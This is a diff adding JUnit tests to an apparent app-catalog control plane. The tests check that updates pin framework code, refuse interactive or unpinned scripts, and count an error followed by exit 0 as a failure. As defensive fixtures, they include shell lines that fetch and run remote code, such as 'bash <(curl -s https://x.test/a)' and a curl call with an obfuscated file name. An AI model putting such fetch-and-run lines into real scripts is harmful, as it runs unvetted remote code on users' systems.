@@ -69,12 +69,93 @@ class UpdateTest extends DemoCatalogFixture {
     }
 
     @Test
+    void anAppMovesToTheFrameworkInItsOwnRepositoryAndTheDifferenceSaysSo() {
+        long app = succeeded(install("wiki", "Wiki", Map.of())).get("app_id").asLong();
+        catalog.change("ct/wiki.sh", "2.5.1", "2.6.0")
+                .withEngine(engine, "wiki")
+                .withEngine(engine, "greeter")
+                .read(plane);
+        // Whatever lies beside the scripts on the node or in the container is not pinned.
+        node.shell().computer().files().write("/root/engine/core/build.func", "echo not pinned\nexit 0\n");
+        Map<String, Object> status = plane.as(VIEWER).get("/catalog/status").json();
+        assertThat(status.get("engine").toString()).contains("directory-", "needed=true", "error=null");
+        JsonNode state = plane.as(VIEWER).get("/apps/" + app + "/update").tree();
+        assertThat(state.get("detail").asString()).contains("from its own repository now, at commit directory-");
+        assertThat(state.get("diff").asString()).contains("+boot=", "-source <(curl");
+        assertThat(state.get("pinned_engine_commit").isNull()).isTrue();
+        assertThat(state.get("latest_engine_commit").asString()).startsWith("directory-");
+        assertThat(state.get("changed_framework").toString()).contains("core/build.func");
+        long job = update(app, "");
+        succeeded(job);
+        assertThat(plane.log(job))
+                .anyMatch(line -> line.contains("ct/wiki.sh of") && line.contains("and the framework of"))
+                .anyMatch(line -> line.contains("Updated wiki to 2.6.0"))
+                .noneMatch(line -> line.contains("not pinned"));
+        assertThat(plane.as(OPERATOR).get("/apps/" + app + "/script").json())
+                .containsEntry(
+                        "engine_commit", state.get("latest_engine_commit").asString());
+        long install = install("greeter", "Greeter", Map.of());
+        succeeded(install);
+        assertThat(plane.log(install)).noneMatch(line -> line.contains("not pinned"));
+        succeeded(install("notes", "Notes", Map.of()));
+    }
+
+    @Test
+    void anUpdateThatNeedsAPersonIsRefusedAndLeftOut() {
+        long app = wikiWithAnUpdate();
+        String asks =
+                "    read -rp \"Continue? (y/N) \" a || true\n    if [[ ! $a =~ y ]]; then exit; fi\n    release wiki";
+        catalog.change("ct/wiki.sh", "    release wiki", asks).read(plane);
+        Answer refused = plane.as(OPERATOR).post("/apps/" + app + "/update", "{\"consent\":true}");
+        assertThat(refused.error()).isEqualTo("needs_terminal");
+        assertThat(refused.body())
+                .contains("asks for the user's agreement: “Continue? (y/N)”", "Update it in a terminal");
+        JsonNode all = plane.as(OPERATOR)
+                .post("/apps/update-all", "{\"consent\":true}")
+                .tree();
+        assertThat(all.get("jobs").isEmpty()).isTrue();
+        assertThat(all.get("skipped").toString()).contains("needs_terminal", "Continue?");
+        assertThat(plane.as(VIEWER).get("/apps/" + app + "/update").json())
+                .containsEntry("unattended", false)
+                .containsEntry("interactive", true);
+    }
+
+    @Test
+    void anUpdateWhoseCodeIsNotPinnedIsRefusedAlsoInATerminal() {
+        long app = wikiWithAnUpdate();
+        catalog.change("ct/wiki.sh", "    release wiki", "    bash <(curl -s https://x.test/a)\n    release wiki")
+                .read(plane);
+        Answer refused = plane.as(OPERATOR).post("/apps/" + app + "/update", "{\"consent\":true,\"interactive\":true}");
+        assertThat(refused.error()).isEqualTo("needs_terminal");
+        assertThat(refused.body()).contains("runs code from https://x.test/a");
+    }
+
+    @Test
+    void anUpdateThatReportsAnErrorAndEndsWithZeroIsNoSuccess() {
+        long app = wikiWithAnUpdate();
+        catalog.change("ct/wiki.sh", "    release wiki", "    msg_error 'Canceled.'\n    exit\n    release wiki")
+                .read(plane);
+        long job = update(app, "");
+        assertThat(failed(job)).contains("“Canceled.”");
+        assertThat(plane.as(VIEWER).get("/apps/" + app).json()).containsEntry("update_available", true);
+        assertThat(plane.as(OPERATOR).get("/apps/" + app + "/script").json()).containsEntry("version", 1);
+        // Nothing tells before it runs what it asks for.
+        String hidden = "    curl -fsSL https://x.test/main/misc/late.$(echo func) >/dev/null || true\n";
+        catalog.change("ct/wiki.sh", "    msg_error 'Canceled.'\n    exit\n", hidden)
+                .read(plane);
+        long late = update(app, "");
+        assertThat(failed(late)).contains("code that is not pinned");
+        assertThat(plane.log(late)).anyMatch(line -> line.contains("late.func"));
+    }
+
+    @Test
     void anUpdateThatAsksIsAnsweredInATerminal() {
         long app = wikiWithAnUpdate();
         String menu = """
-                    choice=$(whiptail --title "Wiki" --menu "Which pages?" 12 50 2 keep "Keep them" drop "Drop them" 3>&1 1>&2 2>&3)
-                    echo "The answer is $choice."
-                    release wiki""";
+            choice=$(whiptail --title "Wiki" --menu "Which pages?" 12 50 2 keep "Keep them" drop "Drop them" 3>&1 1>&2 2>&3)
+            echo "The answer is $choice."
+            release wiki\
+            """;
         catalog.change("ct/wiki.sh", "    release wiki", menu).read(plane);
         assertThat(plane.as(OPERATOR)
                         .post("/apps/update-all", "{\"consent\":true,\"interactive\":true}")
